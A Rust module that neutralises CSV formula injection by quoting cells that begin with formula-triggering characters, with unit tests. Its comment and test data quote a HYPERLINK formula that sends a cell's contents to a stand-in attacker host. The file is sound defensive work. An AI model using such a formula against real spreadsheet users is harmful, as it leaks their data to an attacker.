//! CSV cells a spreadsheet will not run (CSV or formula injection, OWASP): Excel, LibreOffice
//! and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a formula (a tab or
//! a carriage return in front of one is skipped), so a value a subject or a partner typed, such
//! as `=HYPERLINK("https://evil.example/?"&A1,"Click")`, would run when a DPO or the subject
//! opens the CSV. Such a cell gets a leading `'`, OWASP's recommended neutraliser: a
//! spreadsheet then shows the text as text. Only CSV files: JSON keeps every value exact.

use std::borrow::Cow;

/// Whether a cell starts with a byte that makes a spreadsheet read it as a formula. One byte
/// compared: cheap enough for every cell of an export.
pub fn is_formula_like(cell: &[u8]) -> bool {
    matches!(
        cell.first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// The cell as written to a CSV file: with a leading `'` when it would be read as a formula,
/// else unchanged (and not copied).
pub fn neutralised(cell: &str) -> Cow<'_, str> {
    if is_formula_like(cell.as_bytes()) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_a_quote_and_nothing_else_changes() {
        for (raw, out) in [
            (
                "=HYPERLINK(\"https://evil.example\",\"x\")",
                "'=HYPERLINK(\"https://evil.example\",\"x\")",
            ),
            ("+1", "'+1"),
            ("-2", "'-2"),
            ("@x", "'@x"),
            ("\tx", "'\tx"),
            ("\r=1", "'\r=1"),
        ] {
            assert_eq!(neutralised(raw), out);
        }
        for same in [
            "",
            "ada@example.com",
            "12.50",
            "2024-01-02",
            " =1",
            "'=1",
            "a=b",
        ] {
            assert!(matches!(neutralised(same), Cow::Borrowed(s) if s == same));
        }
    }
}
